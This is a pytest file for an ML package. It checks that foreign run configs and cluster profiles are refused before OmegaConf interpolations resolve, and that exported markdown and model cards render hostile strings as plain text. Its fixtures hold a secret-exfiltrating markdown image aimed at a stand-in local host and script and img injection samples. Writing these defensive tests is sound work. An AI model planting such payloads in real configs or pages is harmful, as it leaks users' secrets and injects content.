"""Opening somebody else's run or export gives away nothing of this machine: what a file says stays text."""

import pytest
from markdown_it import MarkdownIt

from ace_dist.cluster.profiles import split_profile
from ace_dist.config import load_config, read_config, to_yaml
from ace_dist.evaluate.export import model_card
from ace_dist.train.trackers import configuration
from ace_dist.utils.errors import ConfigError, RunError
from ace_dist.utils.text import markdown

SECRET = "hunter2-of-this-machine"
LEAK = "![a](http://127.0.0.1:7999/leak?k=${oc.env:SOME_SECRET})"
HOSTILE = (
    "![a](http://127.0.0.1:7999/leak)", "[a](http://host)", "<img src=http://host>", "<script>alert(1)</script>",
    "http://host/x", "www.host.org", "a@host.org", "`x`\n\n![a](b)", "x\n# title\n```\n![a](b)", "$$\\href{http://h}{x}$$",
    "[a]: http://host 'x'", "**bold** _it_ ~~s~~", "|a|b|\n|-|-|\n|<b>|c|", "&lt;img src=x&gt;",
)  # fmt: skip


@pytest.fixture
def foreign(tmp_path, monkeypatch):
    """A run folder of somebody else: returns a function that changes one line of its `config.yaml`."""
    monkeypatch.setenv("SOME_SECRET", SECRET)
    whole = to_yaml(load_config(["experiment=demo", "method=bike"]))

    def write(line, instead):
        assert line in whole
        (tmp_path / "config.yaml").write_text(whole.replace(line, instead, 1))
        return tmp_path

    return write


@pytest.mark.parametrize("value", [LEAK, "${oc.env:SOME_SECRET}", "${assets:}", "${run}", "${oc.decode:'1'}"])
@pytest.mark.parametrize("line", ["  name: tabletop", "  synonyms: ", "  timeout_s: "])
def test_nothing_in_a_configuration_file_is_resolved(foreign, line, value):
    """Names, paths and numbers: refused before any of them is looked at, without the secret in the message."""
    run = foreign(line, f"{line.partition(':')[0]}: '{value}'\n  x: ")
    for read, error in ((read_config, ConfigError), (configuration, RunError)):
        with pytest.raises(error, match=r"config.yaml.*line \d+.*command line alone") as refusal:
            read(run)
        assert SECRET not in str(refusal.value)


def test_neither_is_a_cluster_profile(tmp_path, monkeypatch):
    """It would end up in the job's files."""
    monkeypatch.setenv("SOME_SECRET", SECRET)
    (tmp_path / "mine.yaml").write_text("kind: slurm\npartition: ${oc.env:SOME_SECRET}\n")
    with pytest.raises(ConfigError, match="line 2.*command line alone"):
        split_profile([f"cluster={tmp_path}/mine.yaml"])


def test_the_command_line_and_our_own_files_are_resolved(monkeypatch):
    """What the user types is his own: Hydra's resolvers work there."""
    monkeypatch.setenv("WHERE", "mine")
    config = load_config(["experiment=demo", "dataset.name='${oc.env:WHERE}'"])
    assert config.dataset.name == "mine" and "${" not in to_yaml(config)


@pytest.mark.parametrize("text", HOSTILE)
def test_text_in_markdown_is_only_text(text):
    """Neither CommonMark nor GitHub's dialect makes a link, a picture, HTML or a table of it, and all of it is seen."""
    for dialect in (MarkdownIt("commonmark"), MarkdownIt("gfm-like", {"linkify": False})):
        (opening, inline, closing) = dialect.parse(f"on {markdown(text)} here")
        assert (opening.type, closing.type) == ("paragraph_open", "paragraph_close")
        shown = "".join(token.content for token in inline.children)
        assert {token.type for token in inline.children} <= {"text", "text_special"}
        assert shown == f"on {' '.join(text.split())} here"


@pytest.mark.parametrize("text", HOSTILE)
def test_the_readme_of_an_export_shows_foreign_names_as_text(text):
    config = load_config(["experiment=demo"])
    config.dataset.name = config.method.name = text
    score = {"accuracy": 1.0, "f1": 1.0}
    results = {"method": text, "dataset": text, "base": score, "novel": score, "hm": score, "srt": None}
    results |= {"srt_base": None, "gzsl": None}
    facts = {"git": {"commit": text}, "started_from": {"video": {"file": text, "licence_of_released_files": text}}}
    page = model_card(config, results, facts, {"video": "x", "text": "y"}, "Compare.")
    dialect = MarkdownIt("gfm-like", {"linkify": False})
    front, _, body = page.removeprefix("---\n").partition("---\n")
    assert text not in front
    tokens = [token for block in dialect.parse(body) for token in (block, *(block.children or []))]
    kinds = {token.type for token in tokens}
    assert not kinds & {"image", "link_open", "html_block", "html_inline", "table_open", "strong_open", "fence"}
    headings = [tokens[i + 1].content for i, token in enumerate(tokens) if token.type == "heading_open"]
    assert headings[1:] == ["Use", "Results of its run", "Started from", "Limits"]
